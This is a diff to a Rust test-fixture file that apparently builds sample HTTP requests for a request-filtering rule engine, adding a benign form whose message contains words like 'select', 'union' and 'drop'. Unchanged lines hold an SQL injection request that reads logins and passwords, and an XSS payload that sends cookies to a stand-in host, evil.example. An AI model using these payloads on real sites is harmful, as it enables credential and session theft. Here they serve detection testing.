@@ -18,10 +18,14 @@ const BROWSER: &str = "Host: shop.example.org\r\n\
 const FORM: &str = "name=Margaret+Holloway&street=14+Orchard+Lane&town=St+Albans&postcode=AL3+4QX\
     &country=GB&email=m.holloway%40example.org&phone=%2B44+1727+555+0134&delivery=standard\
     &card=token_9f8e7d6c5b4a39281706&expires=11%2F29&gift=no&coupon=SPRING-10&newsletter=on\
-    &message=Please+leave+the+parcel+with+the+neighbours+at+number+16+if+nobody+opens.+The+gate+on+the\
-    +left+is+usually+open+between+nine+and+six%2C+and+the+dog+is+friendly.+If+the+larger+spade+is+out\
-    +of+stock%2C+select+the+smaller+one+from+the+same+series+or+drop+it+from+the+order%3B+either+is\
-    +fine.+Many+thanks+for+the+quick+reply+last+week+about+the+union+nut+for+the+garden+hose.";
+    &message=Please+leave+the+parcel+with+the+neighbours+at+number+16+when+nobody+opens.+The+gate+on\
+    +the+left+is+usually+unlocked+between+nine+and+six%2C+and+the+dog+is+friendly.+Many+thanks+for+the\
+    +quick+reply+last+week+about+the+garden+hose%2C+it+works+very+well+with+the+new+brass+nut.";
+
+/// A form whose message has words that rules look for: clean as well, but each is looked into.
+const WORDS: &str = "name=Margaret+Holloway&message=If+the+larger+spade+is+out+of+stock%2C+select+the\
+    +smaller+one+from+the+same+series+or+drop+it+from+the+order%3B+either+is+fine.+Many+thanks+for+the\
+    +quick+reply+about+the+union+nut+for+the+garden+hose.";
 
 /// The same order as an application sends it, 1 KiB.
 const JSON: &str = r#"{"order":{"customer":{"name":"Margaret Holloway","email":"m.holloway@example.org","phone":"+44 1727 555 0134","address":{"street":"14 Orchard Lane","town":"St Albans","postcode":"AL3 4QX","country":"GB"}},"lines":[{"sku":"GT-1042","title":"Spade, large, ash handle","quantity":1,"price":34.9},{"sku":"GT-0077","title":"Hose union nut, brass, 3/4 inch","quantity":4,"price":2.25},{"sku":"SE-3310","title":"Sweet peas, mixed colours","quantity":2,"price":1.8}],"delivery":{"method":"standard","note":"Please leave the parcel with the neighbours at number 16 if nobody opens. The gate on the left is usually open between nine and six, and the dog is friendly."},"payment":{"kind":"card","token":"token_9f8e7d6c5b4a39281706","expires":"11/29"},"coupon":"SPRING-10","gift":false,"newsletter":true},"client":{"version":"4.18.2","locale":"en-GB","screen":[1920,1080],"time":"2026-03-14T09:26:53Z"}}"#;
@@ -48,6 +52,7 @@ pub(crate) fn builtin() -> Vec<(String, Exchange)> {
             get("/search?q=garden+hose+union&category=tools&min=5&max=80&sort=price&order=asc&page=2&view=grid&lang=en&ref=nav"),
         ),
         ("form-1k", post(form, &filler(FORM, 1024, "+and+so+on"))),
+        ("words-1k", post(form, &filler(WORDS, 1024, "+please+select+one+from+these"))),
         ("json-1k", post("application/json", &filler(JSON, 1024, " "))),
         ("attack-sqli", get("/item?id=1%27%20UNION/**/SELECT%20login,password%20FROM%20users--%20-")),
         ("attack-xss", get("/search?q=%3Cscript%3Edocument.location%3D%27//evil.example/%27%2Bdocument.cookie%3C/script%3E")),
